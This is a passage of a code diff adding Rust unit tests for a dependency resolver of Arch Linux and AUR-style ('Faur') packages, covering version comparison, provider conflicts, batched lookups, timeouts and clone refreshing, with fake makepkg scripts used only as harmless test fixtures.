+        assert_eq!(HashSet::from(["nope".to_string()]), res.unavailable_optdeps);
+    }
+
+    #[test]
+    fn repo_breakdown() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official_in("core", "a", &["b"])
+            .official_in("core", "b", &[])
+            .official_in("extra", "c", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("breakdown");
+        fake_clone(&root, "x", "x", &["a", "c"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = HashMap::from([("core".to_string(), 2), ("extra".to_string(), 1)]);
+
+        assert_eq!(expt, res.repo_breakdown);
+    }
+
+    #[test]
+    fn traversals() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("c")
+            .official("a", &["b", "c"])
+            .official("b", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("traversals");
+        fake_clone(&root, "x", "x", &["y", "z", "a"]);
+        fake_clone(&root, "y", "y", &["z", "b"]);
+        fake_clone(&root, "z", "z", &["c"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let par = resolve(&opts, &pkgs).unwrap();
+        opts.traversal = Traversal::DepthFirstSequential;
+        let dfs = resolve(&opts, &pkgs).unwrap();
+
+        assert_eq!(par.to_install, dfs.to_install);
+        assert_eq!(par.to_build, dfs.to_build);
+        assert_eq!(par.satisfied, dfs.satisfied);
+        assert_eq!(par.clone_paths, dfs.clone_paths);
+    }
+
+    #[test]
+    fn full_closure() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("c")
+            .official("a", &["b"])
+            .official("b", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("closure");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &["depends = a", "depends = c", "provides = x-virt"],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt: HashSet<_> = ["a", "b", "c", "x", "x-virt"]
+            .into_iter()
+            .map(|s| s.to_string())
+            .collect();
+
+        assert_eq!(expt, res.closure());
+    }
+
+    #[test]
+    fn srcinfo_timeout() {
+        let root = clone_root("srcinfo-timeout");
+        fake_clone(&root, "x", "x", &[]);
+        let full = root.join("x").join(".SRCINFO");
+
+        let fast = parse_within::<_, ()>(full.clone(), Duration::from_secs(5), |p| {
+            Srcinfo::parse_file(p)
+        });
+        assert!(fast.is_ok());
+
+        let slow = parse_within::<_, ()>(full, Duration::from_millis(10), |p| {
+            std::thread::sleep(Duration::from_millis(500));
+            Srcinfo::parse_file(p)
+        });
+        assert!(matches!(slow, Err(Error::SrcinfoParseTimeout(_))));
+    }
+
+    #[test]
+    fn pacman_targets() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .installed("c")
+            .official("b", &["a"])
+            .official("a", &[]);
+        db.sync.insert("a-virt".to_string(), satisfier("a", &[]));
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("pacman-targets");
+        fake_clone(&root, "x", "x", &["b", "c", "a-virt", "y"]);
+        fake_clone(&root, "y", "y", &[]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        assert_eq!(vec!["a", "b"], res.pacman_targets());
+    }
+
+    #[test]
+    fn generated_srcinfo() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let root = clone_root("generate");
+        let path = root.join("x");
+        std::fs::create_dir_all(&path).unwrap();
+        std::fs::write(path.join("PKGBUILD"), "").unwrap();
+
+        // Stands in for `makepkg`, with dependencies driven by the environment.
+        let makepkg = root.join("makepkg");
+        let script = "#!/bin/sh\nprintf 'pkgbase = x\\n\\tpkgver = 1.0\\n\\tpkgrel = 1\\n\\tarch = any\\n'\n[ \"$_build_docs\" = 1 ] && printf '\\tmakedepends = doxygen\\n'\nprintf '\\npkgname = x\\n'\n";
+        std::fs::write(&makepkg, script).unwrap();
+        std::fs::set_permissions(&makepkg, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let makepkg = makepkg.to_str().unwrap();
+
+        let plain = generate_srcinfo::<()>(makepkg, &path, None, None).unwrap();
+        assert!(srcinfo_deps(&plain, None, DepKinds::default(), false).is_empty());
+
+        let env = HashMap::from([("_build_docs".to_string(), "1".to_string())]);
+        let docs = generate_srcinfo::<()>(makepkg, &path, Some(&env), None).unwrap();
+        let expt = HashSet::from(["doxygen".to_string()]);
+        assert_eq!(expt, srcinfo_deps(&docs, None, DepKinds::default(), false));
+
+        // A `PKGBUILD` that never finishes is cut off.
+        let slow = root.join("slow-makepkg");
+        std::fs::write(
+            &slow,
+            "#!/bin/sh
+exec sleep 10
+",
+        )
+        .unwrap();
+        std::fs::set_permissions(&slow, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let slow = slow.to_str().unwrap();
+        let limit = Some(Duration::from_millis(100));
+        let res = generate_srcinfo::<()>(slow, &path, None, limit);
+        assert!(matches!(res, Err(Error::SrcinfoParseTimeout(_))));
+    }
+
+    #[test]
+    fn no_srcinfo_generation_by_default() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("no-generation");
+        let path = root.join("x");
+        std::fs::create_dir_all(&path).unwrap();
+        std::fs::write(path.join("PKGBUILD"), "").unwrap();
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let err = resolve(&opts, &pkgs).unwrap_err();
+        let errs = err.inner_errors();
+        assert!(errs.iter().all(|e| matches!(e, Error::Srcinfo(_, _))));
+    }
+
+    #[test]
+    fn conflicting_providers() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("provider-conflicts");
+        fake_clone_with(&root, "cronie", "cronie", &["provides = cron"]);
+        fake_clone_with(&root, "fcron", "fcron", &["provides = cron"]);
+        let pkgs = HashSet::from(["cronie", "fcron"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = HashMap::from([(
+            "cron".to_string(),
+            vec!["cronie".to_string(), "fcron".to_string()],
+        )]);
+
+        assert_eq!(expt, res.provider_conflicts);
+    }
+
+    #[test]
+    fn edge_list() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &["b"])
+            .official("b", &[])
+            .official("c", &[])
+            .official("d", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("edges");
+        fake_clone_with(
+            &root,
+            "x",
+            "x",
+            &["depends = a>=1.0", "makedepends = c", "checkdepends = d"],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.dep_kinds |= DepKinds::CHECK;
+        let res = resolve(&opts, &pkgs).unwrap();
+        let edge = |f: &str, t: &str, k| (f.to_string(), t.to_string(), k);
+        let expt = vec![
+            edge("a", "b", DepKind::Runtime),
+            edge("x", "a", DepKind::Runtime),
+            edge("x", "c", DepKind::Make),
+            edge("x", "d", DepKind::Check),
+        ];
+
+        assert_eq!(expt, res.edges());
+    }
+
+    #[test]
+    fn case_insensitive() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("qt5-base", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("case");
+        fake_clone(&root, "x", "x", &["Qt5-Base"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        assert!(resolve(&opts, &pkgs).is_err());
+
+        opts.case_insensitive_official = true;
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt = HashMap::from([("Qt5-Base".to_string(), "qt5-base".to_string())]);
+
+        assert!(res.to_install.contains("qt5-base"));
+        assert_eq!(expt, res.case_folded);
+    }
+
+    #[test]
+    fn probed_satisfaction() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("probe");
+        fake_clone(&root, "x", "x", &["fresh"]);
+        let pkgs = HashSet::from(["x"]);
+        let probe = |p: &str| p == "fresh";
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        assert!(resolve(&opts, &pkgs).is_err());
+
+        opts.satisfied_probe = Some(&probe);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.satisfied.contains("fresh"));
+    }
+
+    #[test]
+    fn held_packages() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .installed_at("glibc", "2.0-1")
+            .official("glibc", &[]);
+        db.sync.get_mut("glibc").unwrap().version = "3.0-1".to_string();
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("held");
+        fake_clone(&root, "x", "x", &["glibc>=3.0"]);
+        let pkgs = HashSet::from(["x"]);
+        let held = HashSet::from(["glibc".to_string()]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("glibc"));
+
+        opts.held = Some(&held);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.satisfied.contains("glibc"));
+        assert!(res.to_install.is_empty());
+    }
+
+    #[test]
+    fn orphans() {
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .installed("libold")
+            .installed("shared")
+            .installed("keep");
+        db.local
+            .insert("x".to_string(), satisfier("x", &["libold", "shared"]));
+        db.local
+            .insert("y".to_string(), satisfier("y", &["shared"]));
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("orphans");
+        fake_clone(&root, "x", "x", &["shared"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool.clone(), &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let orphans = would_orphan::<_, ()>(&pool, &res).unwrap();
+
+        assert_eq!(vec!["libold".to_string()], orphans);
+    }
+
+    #[test]
+    fn git_concurrency() {
+        use std::sync::atomic::AtomicUsize;
+        use std::sync::atomic::Ordering;
+
+        let gate = Semaphore::new(2);
+        let running = AtomicUsize::new(0);
+        let highest = AtomicUsize::new(0);
+
+        // Stands in for a clone.
+        let fake_git = || {
+            let now = running.fetch_add(1, Ordering::SeqCst) + 1;
+            highest.fetch_max(now, Ordering::SeqCst);
+            std::thread::sleep(Duration::from_millis(10));
+            running.fetch_sub(1, Ordering::SeqCst);
+        };
+
+        std::thread::scope(|s| {
+            for _ in 0..8 {
+                s.spawn(|| gate.run::<_, (), _>(fake_git).unwrap());
+            }
+        });
+
+        assert!(highest.load(Ordering::SeqCst) <= 2);
+    }
+
+    #[test]
+    fn incremental() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &[])
+            .official("b", &[])
+            .official("c", &[]);
+        let (pool, db) = mock_pool(db);
+        let root = clone_root("incremental");
+        fake_clone(&root, "x", "x", &["y", "a"]);
+        fake_clone(&root, "y", "y", &[]);
+        fake_clone(&root, "z", "z", &["y"]);
+        fake_clone(&root, "w", "w", &["c"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let prev = resolve(&opts, &HashSet::from(["x", "x>=1", "w"])).unwrap();
+        assert!(prev.dropped_duplicates.is_empty().not());
+        assert!(prev.to_install.contains("c"));
+        db.queries.lock().unwrap().clear();
+
+        // `y` and `w` both change after the first resolution, but only `y` is
+        // still needed.
+        fake_clone(&root, "y", "y", &["b"]);
+        fake_clone(&root, "w", "w", &["a", "b"]);
+
+        let pkgs = HashSet::from(["x", "z"]);
+        let res = resolve_incremental(&prev, &opts, &pkgs).unwrap();
+        let queries = db.queries.lock().unwrap();
+
+        assert!(res.to_build.contains("z"));
+        assert!(res.to_build.contains("y"));
+        assert!(res.to_install.contains("a"));
+        assert!(res.to_install.contains("b"));
+        assert!(res.to_build.contains("w").not());
+        assert!(res.to_install.contains("c").not());
+        assert!(res.dropped_duplicates.is_empty());
+        assert!(queries.iter().all(|q| q != "x" && q != "a" && q != "w"));
+        assert!(queries.contains(&"b".to_string()));
+    }
+
+    #[test]
+    fn virtual_provided() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, db) = mock_pool(db);
+        let root = clone_root("virtual");
+        fake_clone(&root, "x", "x", &["sh"]);
+        let pkgs = HashSet::from(["x"]);
+        let virt = HashSet::from(["sh".to_string()]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        assert!(resolve(&opts, &pkgs).is_err());
+
+        db.queries.lock().unwrap().clear();
+        opts.virtual_provided = Some(&virt);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(Some("sh"), res.provider("sh"));
+        assert!(res.to_install.is_empty());
+        assert!(db.queries.lock().unwrap().iter().all(|q| q != "sh"));
+    }
+
+    #[test]
+    fn collected_faur() {
+        let (pool, _) = mock_pool(MockDb::default().installed("base-devel"));
+        let root = clone_root("collect");
+        fake_clone(&root, "x", "x", &[]);
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            let pkgs = if url.ends_with("x-lib") {
+                let mut p = faur_pkg("x-lib", "x", 5);
+                p.description = Some("The x library.".to_string());
+                vec![p]
+            } else {
+                Vec::new()
+            };
+            Ok(pkgs)
+        };
+        let pkgs = HashSet::from(["x-lib"]);
+
+        let mut opts = ResolveOpts::new(pool, &fetch, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.faur_packages.is_empty());
+
+        opts.collect_faur = true;
+        let res = resolve(&opts, &pkgs).unwrap();
+        let desc = res
+            .faur_packages
+            .get("x-lib")
+            .and_then(|p| p.description.as_deref());
+        assert_eq!(Some("The x library."), desc);
+    }
+
+    #[test]
+    fn check_kind() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &[])
+            .official("b", &[])
+            .official("t", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("kinds");
+        let lines = ["depends = a", "makedepends = b", "checkdepends = t"];
+        fake_clone_with(&root, "x", "x", &lines);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("a"));
+        assert!(res.to_install.contains("b"));
+        assert!(res.to_install.contains("t").not());
+
+        opts.dep_kinds |= DepKinds::CHECK;
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("t"));
+
+        opts.dep_kinds = DepKinds::RUNTIME;
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expt: HashSet<_> = res.to_install.iter().map(|o| o.name.as_str()).collect();
+        assert_eq!(HashSet::from(["a"]), expt);
+    }
+
+    #[test]
+    fn duplicate_requests() {
+        let db = MockDb::default().installed("base-devel").official("a", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("dupes");
+        fake_clone(&root, "x", "x", &["a"]);
+        // A set can't hold the same name twice, but it can hold two spellings.
+        let pkgs = HashSet::from(["x", "x>=1.0"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(1, res.to_build.len());
+        assert_eq!(vec!["x>=1.0".to_string()], res.dropped_duplicates);
+    }
+
+    #[test]
+    fn user_messages() {
+        let missing = Error::<()>::DoesntExistWithParent("x".to_string(), "y".to_string());
+        let msg = missing.user_message();
+        assert!(msg.contains("x depends on y"));
+        assert!(msg.contains("renamed or deleted"));
+
+        let msg = Error::<()>::DoesntExist("y".to_string()).user_message();
+        assert!(msg.contains("Check its spelling"));
+
+        let cycle = Error::<()>::CyclicDep(vec!["a".to_string(), "b".to_string()]);
+        assert!(cycle.user_message().contains("a => b"));
+
+        let amb = Error::<()>::AmbiguousFaur("java".to_string(), vec!["a".to_string()]);
+        assert!(amb
+            .user_message()
+            .contains("Request one of them explicitly"));
+
+        let repo = Error::<()>::DisallowedRepo("x".to_string(), "testing".to_string());
+        assert!(repo.user_message().contains("Allow testing"));
+
+        let msg = Error::<()>::Faur(()).user_message();
+        assert!(msg.contains("network connection"));
+
+        let many = Error::<()>::Resolutions(Box::new(nev![
+            Error::DoesntExist("a".to_string()),
+            Error::DoesntExist("b".to_string()),
+            Error::CyclicDep(vec!["c".to_string()])
+        ]));
+        let msg = many.user_message();
+        assert!(msg.starts_with("3 problems"));
+        assert!(msg.contains("doesnt-exist (2):"));
+        assert!(msg.contains("cyclic-dep (1):"));
+    }
+
+    #[test]
+    fn version_comparison() {
+        let cases = [
+            ("1.0", "1.0", Ordering::Equal),
+            ("1.0", "1.1", Ordering::Less),
+            ("1.10", "1.9", Ordering::Greater),
+            ("1.0a", "1.0", Ordering::Less),
+            ("1.0", "1.0.1", Ordering::Less),
+            ("1.0alpha", "1.0beta", Ordering::Less),
+            ("1.001", "1.1", Ordering::Equal),
+            ("1.0-1", "1.0-2", Ordering::Less),
+            ("1.0-2", "1.0", Ordering::Equal),
+            ("1:1.0", "2.0", Ordering::Greater),
+            ("1:1.0", "2:0.1", Ordering::Less),
+            ("2.25-1", "2.25", Ordering::Equal),
+        ];
+
+        for (a, b, expt) in cases {
+            assert_eq!(expt, alpm::vercmp(a, b), "{a} vs {b}");
+            assert_eq!(expt.reverse(), alpm::vercmp(b, a), "{b} vs {a}");
+        }
+    }
+
+    #[test]
+    fn older_versions() {
+        assert!(is_older("1.0-1", "1.0-2"));
+        assert!(is_older("2.0-1", "1:1.0-1"));
+        assert!(is_older("1.0a-1", "1.0-1"));
+        assert!(is_older("1.0-1", "1.0a-1").not());
+        assert!(is_older("1.0-1", "1.0-1").not());
+    }
+
+    #[test]
+    fn demand_operators() {
+        assert!(meets_demand("2.25-1", "glibc>=2.25"));
+        assert!(meets_demand("2.24-1", "glibc>=2.25").not());
+        assert!(meets_demand("2.26-1", "glibc>2.25"));
+        assert!(meets_demand("2.25-1", "glibc>2.25").not());
+        assert!(meets_demand("2.25-3", "glibc=2.25"));
+        assert!(meets_demand("2.25-3", "glibc=2.25-2").not());
+        assert!(meets_demand("2.25-1", "glibc<=2.25"));
+        assert!(meets_demand("2.26-1", "glibc<=2.25").not());
+        assert!(meets_demand("2.24-1", "glibc<2.25"));
+        assert!(meets_demand("2.25-1", "glibc<2.25").not());
+        assert!(meets_demand("1:1.0-1", "foo>=2.0"));
+        assert!(meets_demand("3.0-1", "foo>=1:2.0").not());
+        assert!(meets_demand("0.1-1", "glibc"));
+    }
+
+    #[test]
+    fn too_old_upgraded() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed_at("glibc", "2.24-1")
+            .official("glibc", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("too-old");
+        fake_clone(&root, "x", "x", &["glibc>=2.25"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert!(res.to_install.contains("glibc"));
+        assert!(res.satisfied.contains("glibc").not());
+    }
+
+    #[test]
+    fn shared_deps_fetched_once() {
+        use std::sync::atomic::AtomicUsize;
+        use std::sync::atomic::Ordering;
+
+        let db = MockDb::default().installed("base-devel").official("a", &[]);
+        let (pool, db) = mock_pool(db);
+        let root = clone_root("in-flight");
+        fake_clone(&root, "common", "common", &["a"]);
+
+        let names: Vec<String> = (0..32).map(|i| format!("r{i}")).collect();
+        for (i, name) in names.iter().enumerate() {
+            let mid = format!("m{}", i % 8);
+            fake_clone(&root, name, name, &[mid.as_str(), "common-lib"]);
+            fake_clone(&root, &mid, &mid, &["common-lib", "a"]);
+        }
+
+        let fetches = AtomicUsize::new(0);
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            if faur_names(url).contains(&"common-lib") {
+                fetches.fetch_add(1, Ordering::SeqCst);
+                Ok(vec![faur_pkg("common-lib", "common", 10)])
+            } else {
+                Ok(Vec::new())
+            }
+        };
+        let threads = rayon::ThreadPoolBuilder::new()
+            .num_threads(8)
+            .build()
+            .unwrap();
+        let pkgs: HashSet<&str> = names.iter().map(|n| n.as_str()).collect();
+
+        let mut opts = ResolveOpts::new(pool, &fetch, &root);
+        opts.threads = Some(&threads);
+        let res = resolve(&opts, &pkgs).unwrap();
+
+        assert_eq!(1, fetches.load(Ordering::SeqCst));
+        assert_eq!(32 + 8 + 1, res.to_build.len());
+        let queries = db.queries.lock().unwrap();
+        assert_eq!(1, queries.iter().filter(|q| *q == "a").count());
+    }
+
+    #[test]
+    fn providers() {
+        let mut db = MockDb::default().installed("base-devel");
+        db.sync
+            .insert("java-runtime".to_string(), satisfier("jre-openjdk", &[]));
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("provider");
+        fake_clone(&root, "x", "x", &["foo-virt", "java-runtime"]);
+        fake_clone_with(&root, "foo", "foo", &["provides = foo-virt=1.0"]);
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            let pkgs = if faur_names(url).contains(&"foo-virt") {
+                vec![faur_pkg("foo-virt", "foo", 1)]
+            } else {
+                Vec::new()
+            };
+            Ok(pkgs)
+        };
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &fetch, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(Some("foo"), res.provider("foo-virt"));
+        assert_eq!(Some("jre-openjdk"), res.provider("java-runtime"));
+        assert_eq!(None, res.provider("nothing"));
+    }
+
+    #[test]
+    fn conflicting_packages() {
+        let (pool, _) = mock_pool(MockDb::default().installed("base-devel"));
+        let root = clone_root("conflicts");
+        fake_clone_with(&root, "foo", "foo", &["conflicts = bar"]);
+        fake_clone_with(&root, "bar", "bar", &["conflicts = foo"]);
+        fake_clone_with(
+            &root,
+            "baz",
+            "baz",
+            &["provides = baz-virt", "conflicts = baz-virt"],
+        );
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        assert!(resolve(&opts, &HashSet::from(["foo", "baz"])).is_ok());
+
+        let pkgs = HashSet::from(["foo", "bar"]);
+        match resolve(&opts, &pkgs) {
+            Err(Error::Conflict(a, b)) => assert_eq!(("bar", "foo"), (a.as_str(), b.as_str())),
+            other => panic!("Expected a conflict, got {:?}", other.map(|_| ())),
+        }
+    }
+
+    #[test]
+    fn progress() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("b")
+            .official("a", &["b"])
+            .official("b", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("progress");
+        fake_clone(&root, "x", "x", &["a"]);
+        let pkgs = HashSet::from(["x"]);
+        let seen = Mutex::new(Vec::new());
+        let on_progress = |p: &str| seen.lock().unwrap().push(p.to_string());
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.on_progress = Some(&on_progress);
+        resolve(&opts, &pkgs).unwrap();
+
+        let mut seen = seen.into_inner().unwrap();
+        seen.sort();
+        assert_eq!(vec!["a", "b", "x"], seen);
+    }
+
+    #[test]
+    fn single_threaded() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &["b", "c"])
+            .official("b", &["c"])
+            .official("c", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("single");
+        fake_clone(&root, "x", "x", &["a", "y"]);
+        fake_clone(&root, "y", "y", &["b"]);
+        let pkgs = HashSet::from(["x"]);
+
+        let mut opts = ResolveOpts::new(pool, &no_faur, &root);
+        opts.max_parallel = Some(1);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(3, res.to_install.len());
+        assert_eq!(2, res.to_build.len());
+    }
+
+    #[test]
+    fn error_sources() {
+        let err = Error::Faur(std::io::Error::other("unreachable"));
+        let boxed: Box<dyn std::error::Error> = Box::new(err);
+        let source = boxed
+            .source()
+            .and_then(|e| e.downcast_ref::<std::io::Error>());
+        assert_eq!(
+            Some("unreachable".to_string()),
+            source.map(|e| e.to_string())
+        );
+        assert_eq!("unreachable", boxed.to_string());
+
+        let back = boxed.downcast::<Error<std::io::Error>>().unwrap();
+        assert!(matches!(*back, Error::Faur(_)));
+
+        let missing = Error::<std::io::Error>::DoesntExist("x".to_string());
+        assert!(std::error::Error::source(&missing).is_none());
+    }
+
+    #[test]
+    fn batched_lookups() {
+        let (pool, _) = mock_pool(MockDb::default().installed("base-devel"));
+        let root = clone_root("batched");
+        let libs = ["p-lib", "q-lib", "r-lib", "s-lib"];
+        fake_clone(&root, "x", "x", &libs);
+        for lib in libs {
+            let base = lib.trim_end_matches("-lib");
+            fake_clone(&root, base, base, &[]);
+        }
+
+        let calls = Mutex::new(Vec::new());
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            calls.lock().unwrap().push(url.to_string());
+            let pkgs = faur_names(url)
+                .into_iter()
+                .map(|n| faur_pkg(n, n.trim_end_matches("-lib"), 1))
+                .collect();
+            Ok(pkgs)
+        };
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &fetch, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(5, res.to_build.len());
+
+        // One query instead of one per dependency.
+        let calls = calls.into_inner().unwrap();
+        assert_eq!(1, calls.len());
+        assert_eq!(libs.to_vec(), faur_names(&calls[0]));
+    }
+
+    #[test]
+    fn batched_lookups_skip_repo_packages() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .installed("zlib")
+            .official("glibc", &[]);
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("batched-repo");
+        fake_clone(&root, "x", "x", &["p-lib", "q-lib", "glibc", "zlib"]);
+
+        let calls = Mutex::new(Vec::new());
+        let fetch = |url: &str| -> Result<Vec<crate::faur::Package>, ()> {
+            calls.lock().unwrap().push(url.to_string());
+            Ok(Vec::new())
+        };
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &fetch, &root);
+        let _ = resolve(&opts, &pkgs);
+
+        // Only the names no database could satisfy are sent to the Faur.
+        let calls = calls.into_inner().unwrap();
+        assert_eq!(vec!["p-lib", "q-lib"], faur_names(&calls[0]));
+        assert!(calls
+            .iter()
+            .all(|c| faur_names(c).iter().all(|n| *n != "glibc" && *n != "zlib")));
+    }
+
+    #[test]
+    fn pgp_keys() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("pgp-keys");
+        fake_clone(&root, "x", "x", &["y"]);
+        fake_clone_with(
+            &root,
+            "y",
+            "y",
+            &["validpgpkeys = 5A7A2C6F0E3D2F1A8C7B6D5E4F3A2B1C0D9E8F7A"],
+        );
+        let pkgs = HashSet::from(["x"]);
+
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
+        let expected = HashMap::from([(
+            "y".to_string(),
+            vec!["5A7A2C6F0E3D2F1A8C7B6D5E4F3A2B1C0D9E8F7A".to_string()],
+        )]);
+
+        assert_eq!(expected, res.pgp_keys);
+    }
+
+    #[test]
+    fn refreshing_clones() {
+        let db = || {
+            MockDb::default()
+                .installed("base-devel")
+                .official("old", &[])
+                .official("new", &[])
+        };
+        let root = clone_root("refresh");
+        let upstream = root.join("upstream");
+        let clones = root.join("clones");
+        fake_clone(&root, "upstream", "x", &["old"]);
+        git_commit(&upstream);
+        std::fs::create_dir_all(&clones).unwrap();
+        let status = std::process::Command::new("git")
+            .args(["clone", "--quiet"])
+            .arg(&upstream)
+            .arg(clones.join("x"))
+            .status()
+            .unwrap();
+        assert!(status.success());
+
+        // The upstream repository moves on after the clone was made.
+        fake_clone(&root, "upstream", "x", &["new"]);
+        let latest = git_commit(&upstream);
+        let pkgs = HashSet::from(["x"]);
+        let names = |res: Resolution| -> Vec<String> {
+            res.to_install.into_iter().map(|o| o.name).collect()
+        };
 
-                    // --- Package identities provided by this one --- //
-                    let prov: HashSet<_> = info.pkgs.iter().map(|p| p.pkgname.clone()).collect();
+        let (pool, _) = mock_pool(db());
+        let opts = ResolveOpts::new(pool, &no_faur, &clones);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(vec!["old"], names(res));
+        assert_ne!(latest, crate::git::hash(&clones.join("x")).unwrap());
 
-                    // --- All possible deps to consider --- //
-                    let deps: HashSet<String> = info
-                        .base
-                        .makedepends
-                        .into_iter()
-                        .chain(info.pkg.depends)
-                        .chain(info.pkgs.into_iter().flat_map(|p| p.depends))
-                        .chain(respect_checkdeps(nocheck, info.base.checkdepends))
-                        .flat_map(|av| av.vec)
-                        .map(strip_version)
-                        // To prevent false detection of dependency cycles
-                        // during build preparation.
-                        //
-                        // Consider the case of `mingw-w64-harfbuzz-icu`, a
-                        // split package found within `mingw-w64-harfbuzz`. The
-                        // former depends on the latter (at runtime), but they
-                        // are built as a pair during the same `makepkg`
-                        // invocation. So we don't have to consider normal
-                        // dependency relationships between them.
-                        .filter(|p| prov.contains(p).not())
-                        .collect();
+        let (pool, _) = mock_pool(db());
+        let mut opts = ResolveOpts::new(pool, &no_faur, &clones);
+        opts.refresh = true;
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(vec!["new"], names(res));
+        assert_eq!(latest, crate::git::hash(&clones.join("x")).unwrap());
+    }
 
-                    debug!("{} ({}) => {:?}", pr, name, deps);
+    #[test]
+    fn srcinfo_parsed_once() {
+        use std::sync::atomic::AtomicUsize;
+        use std::sync::atomic::Ordering;
 
-                    let deps_copy: Vec<String> = deps.iter().cloned().collect();
-                    let parent = name.clone();
-                    let buildable = Buildable { name, deps };
+        let root = clone_root("srcinfo-once");
+        fake_clone(&root, "x", "x", &[]);
+        fake_clone(&root, "y", "y", &[]);
+        let cache = SrcinfoCache::default();
+        let parses = AtomicUsize::new(0);
+        let parse = |dir: &str| -> Result<Srcinfo, Error<()>> {
